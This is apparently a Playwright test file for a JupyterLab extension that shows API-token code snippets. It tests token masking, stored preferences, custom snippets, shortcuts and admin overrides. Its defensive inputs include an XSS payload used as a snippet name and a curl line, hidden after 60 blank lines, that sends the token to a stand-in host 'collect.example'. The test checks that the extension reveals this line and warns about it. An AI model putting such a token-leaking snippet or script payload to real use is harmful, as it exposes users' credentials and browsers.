import { setTimeout as delay } from 'node:timers/promises';

import { SCRIPTS } from '../../faults/faults';
import { expect, test } from '../../fixtures';
import { MASK } from '../../pages/jupyterpage';
import { SnippetsSection } from '../../pages/snippetssection';

test(
  'the code follows the language, the token and the custom snippets',
  { tag: '@lab' },
  async ({ jupyter }) => {
    test.slow();
    const { page, requestToken: token } = jupyter;
    const snippets = new SnippetsSection(jupyter);
    const { language } = snippets;
    await jupyter.showPanel();
    await test.step('the code contains the token only if it is included', async () => {
      await snippets.choose({ language: 'curl' });
      await expect(snippets.code).toContainText('$JUPYTER_API_TOKEN');
      // Highlighted as in JupyterLab's own editor.
      await expect(snippets.code.locator('span[class]')).not.toHaveCount(0);
      expect(await snippets.copy()).not.toContain(token);

      await snippets.choose({ includeToken: true });
      await expect(snippets.code).toContainText(MASK);
      expect(await snippets.copy()).toContain(token);
    });

    await test.step('the browser remembers the language and nothing else', async () => {
      await expect(language).toHaveValue('curl');
      await language.selectOption('R (httr2)');
      const kept = await page.evaluate(() =>
        Object.entries(localStorage).filter(([key]) =>
          key.includes('api-token')
        )
      );
      expect(kept).toEqual([['jupyterlab-api-token:language', 'r-httr2']]);
      await page.reload();
      await jupyter.waitUntilReady();
      await jupyter.showPanel();
      await expect(language).toHaveValue('r-httr2');
    });

    await test.step('custom snippets appear at once, and a broken one is explained', async () => {
      await jupyter.openSettings('API Snippets');
      const settings = page.locator('.jp-SettingsPanel');
      await settings.getByRole('button', { name: 'Add' }).click();
      const name = '<img src=x onerror=alert(1)>';
      await settings.locator('[id$="_custom_0_name"]').fill(name);
      await expect(jupyter.panel).toContainText(
        `Custom snippet 1, “${name}”, has no code.`
      );
      await settings
        .locator('[id$="_custom_0_code"]')
        .fill('get ${path} of ${serverUrl} <b>as ${user}</b> with "${token}"');
      await snippets.choose({ language: name });
      await expect(snippets.code).toHaveText(
        `get /api/sessions of ${jupyter.serverUrl} <b>as ${jupyter.user}</b> with "$JUPYTER_API_TOKEN"`
      );
      await expect(jupyter.panel).not.toContainText('Custom snippet 1');
      await expect(
        language.locator('optgroup[label="Custom snippets"]')
      ).toContainText(name);

      await jupyter.changeSetting('language', name);
      await expect(language).toHaveValue(name);
    });
  }
);

test(
  'the palette and a shortcut copy a snippet with the panel closed',
  { tag: '@lab-newest' },
  async ({ host, jupyter }) => {
    const { page } = jupyter;
    // A second press says it again.
    const said = page.getByText('Snippet copied.').first();
    // The code comes some time after the key was pressed.
    await page.route(SCRIPTS.path, async route => {
      await delay(1000);
      await route.continue();
    });
    await jupyter.runFromPalette('Copy API Snippet');
    await expect(said).toBeVisible();
    await page.unrouteAll({ behavior: 'wait' });
    expect(await jupyter.paste()).toContain(
      `'${jupyter.serverUrl}api/sessions'`
    );

    // The user's own shortcut sets the arguments of the command.
    const shortcuts = '@jupyterlab/shortcuts-extension';
    await host.writeSettings('', `${shortcuts}:shortcuts`, {
      shortcuts: [
        {
          command: 'api-token:copy-snippet',
          keys: ['Accel Alt K'],
          selector: 'body',
          args: { language: 'python-requests', path: '/api/kernels' }
        }
      ]
    });
    try {
      await page.reload();
      await jupyter.waitUntilReady();
      await expect(async () => {
        await page.keyboard.press('Control+Alt+K');
        await expect(said).toBeVisible({ timeout: 2000 });
      }).toPass();
      const copied = await jupyter.paste();
      expect(copied).toContain('import requests');
      expect(copied).toContain(`"${jupyter.serverUrl}api/kernels"`);
      await expect(jupyter.panel).toBeHidden();
    } finally {
      await host.removeSettings('', shortcuts);
    }
  }
);

test(
  'an admin’s settings apply as far as they are valid',
  { tag: '@lab-newest' },
  async ({ jupyter }) => {
    const { page } = jupyter;
    const code = `# ours${'\n'.repeat(60)}curl 'https://collect.example/\${token}'`;
    // Act as a server with overrides.json, which it reads only when it starts.
    await page.route(/\/lab\/api\/settings/, async route => {
      const response = await route.fetch();
      const answer = await response.json();
      // The settings of one plugin, or of all.
      const plugins = 'id' in answer ? [answer] : answer.settings;
      for (const { id, schema } of plugins) {
        if (id === 'jupyterlab-api-token:snippets' && schema) {
          schema.properties.language.default = 'Ours';
          schema.properties.custom.default = [
            { name: 'Broken', code: 5 },
            { name: 'Ours', code }
          ];
        }
      }
      await route.fulfill({ response, json: answer });
    });
    await page.reload();
    await jupyter.waitUntilReady();
    await jupyter.showPanel();
    // JupyterLab rejects all settings because of the number.
    await expect(jupyter.panel).toContainText(
      'JupyterLab rejected the settings of the snippets. Correct them'
    );
    await jupyter.panel.getByText('Details for an issue').click();
    await expect(jupyter.panel.getByText(/code.* string/)).toBeVisible();
    await expect(jupyter.panel).toContainText(
      'Custom snippet 1, “Broken”, has no code.'
    );
    const snippets = new SnippetsSection(jupyter);
    await expect(snippets.language).toHaveValue('Ours');

    await test.step('hidden parts of them are pointed out', async () => {
      const text = code.replace('${token}', '$JUPYTER_API_TOKEN');
      expect(await snippets.copy()).toBe(text);
      // The whole code is on the screen, although it has 60 blank lines.
      await expect(snippets.code.locator('[data-sign]')).toHaveCount(1);
      expect((await snippets.code.boundingBox())?.height).toBeLessThan(200);
      await snippets.code.evaluate(node =>
        document.getSelection()?.selectAllChildren(node)
      );
      await page.keyboard.press('Control+C');
      expect(await jupyter.paste()).toBe(text);
      const warning = jupyter.panel.getByText('names another host');
      await expect(warning).toHaveCount(0);
      await snippets.choose({ includeToken: true });
      await expect(warning).toContainText('collect.example');
    });

    await snippets.choose({ language: 'curl' });
    await expect(snippets.code).toContainText('curl --');
  }
);
